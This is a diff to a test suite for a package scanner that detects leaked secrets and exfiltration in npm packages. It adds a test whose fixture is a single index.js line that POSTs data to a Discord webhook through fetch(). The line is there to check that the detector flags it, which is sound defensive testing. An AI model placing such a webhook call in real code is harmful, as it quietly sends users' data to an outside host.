@@ -16,13 +16,14 @@ from tests import minted
 from tests.detectors.artifacts import findings, npm, places, sdist, told
 from tests.minted_forms import FORMS, Sample
 from tests.worker.inspection.archives import entry, tarball, tgz
-from worker.detectors import leaked_secret
+from worker.detectors import exfiltration_host, leaked_secret
 from worker.inspection.child import examine
 from worker.inspection.limits import Limits
 from worker.inspection.wire import Question
 
 PACKAGE = Package.parse("npm/fast-colour@2.4.1")
 SENDGRID = next(sample for sample in FORMS if sample.credential == "sendgrid-key")
+WEBHOOK = next(sample for sample in FORMS if sample.credential == "discord-webhook")
 LONG = list({sample.credential: sample for sample in FORMS if sample.place == 'const token = "{}";'}.values())
 """One of each kind that needs no other words around it."""
 NPM_TOKEN = minted.with_crc("npm_")
@@ -133,6 +134,14 @@ class TestInnocentTwin:
         """The shape of lock files and bundles."""
         text = json.dumps({"integrity": f"sha512-{minted.azure()}", "data": minted.noise("blob", 20_000)})
         assert findings(leaked_secret, npm({"data.json": text})) == []
+
+    def test_a_webhook_that_code_talks_to_is_told_by_the_rule_for_drops_alone(self) -> None:
+        webhook = f"https://discord.com/api/webhooks/918273645546372819/{WEBHOOK.mint('a')}"
+        found = npm({"index.js": f"fetch('{webhook}', {{ method: 'POST', body }});"})
+        assert findings(leaked_secret, found) == []
+        assert told(findings(exfiltration_host, found)) == ["high: its code talks to a chat webhook (discord.com)"]
+        (kept,) = findings(leaked_secret, npm({"index.js": f"const HOOK = '{webhook}';"}))
+        assert told([kept])[0].startswith("medium: it may ship the address of a Discord webhook in index.js")
 
 
 class TestCanary:
